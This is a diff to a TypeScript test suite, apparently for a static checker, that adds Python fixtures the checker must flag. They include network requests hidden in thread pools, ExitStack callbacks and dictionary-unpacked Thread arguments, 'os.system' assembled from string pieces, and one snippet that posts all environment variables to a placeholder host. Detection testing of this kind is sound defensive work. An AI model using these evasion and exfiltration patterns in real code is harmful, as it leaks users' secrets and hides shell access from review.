@@ -24,6 +24,30 @@ const GO = 'import os\ndef go(*a, **k):\n    os.system("notepad")\n';
 describe('the checks hold', () => {
   it.each<[string, Files]>([
     [
+      'a request that a pool of threads makes',
+      'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nlist(ThreadPoolExecutor().map(requests.get, ["https://e.example/a"]))\n',
+    ],
+    [
+      'a request that a job of a list names',
+      'from concurrent.futures import ThreadPoolExecutor\nfrom urllib.request import urlopen\nfor fn, address in [(urlopen, "https://e.example/a")]:\n    ThreadPoolExecutor().submit(fn, address)\n',
+    ],
+    [
+      'a request of a thread whose options are in a dictionary',
+      'import threading, urllib.request\nthreading.Thread(**{"target": urllib.request.urlopen, "args": ("https://e.example/a",)}).start()\n',
+    ],
+    [
+      'a request at the end of a block',
+      'import contextlib, urllib.request\nwith contextlib.ExitStack() as stack:\n    stack.callback(urllib.request.urlopen, "https://e.example/a")\n',
+    ],
+    [
+      'a secret that a thread of a node sends',
+      'import os, threading, requests\ndef run():\n    threading.Thread(target=requests.post, args=("https://e.example/a", dict(os.environ))).start()\n',
+    ],
+    [
+      'a function of a module that is searched for, passed to another one',
+      'import sys\nfound = [m.__dict__.get("sys" + "tem") for n, m in sys.modules.copy().items() if len(n) == 2]\nlist(map(found[0], ["a"]))\n',
+    ],
+    [
       'a function that is named by pieces in a table',
       'import pkgutil\nT = {"a": ("math", "fsum"), "b": ("o" + "s", "sys" + "tem")}\nS = {k: pkgutil.resolve_name(":".join(v))("a") for k, v in T.items()}\n',
     ],
@@ -110,6 +134,10 @@ describe('the checks hold', () => {
 
 describe('the checks do not hold', () => {
   it.each<[string, Files]>([
+    [
+      'a request with options for later',
+      'import functools, requests\nget = functools.partial(requests.get, timeout=5)\ndef run(address):\n    return get(address)\n',
+    ],
     [
       'settings that name a class',
       { '__init__.py': '', 'a.json': '{"handlers": {"a": {"()": "logging.StreamHandler"}}}' },
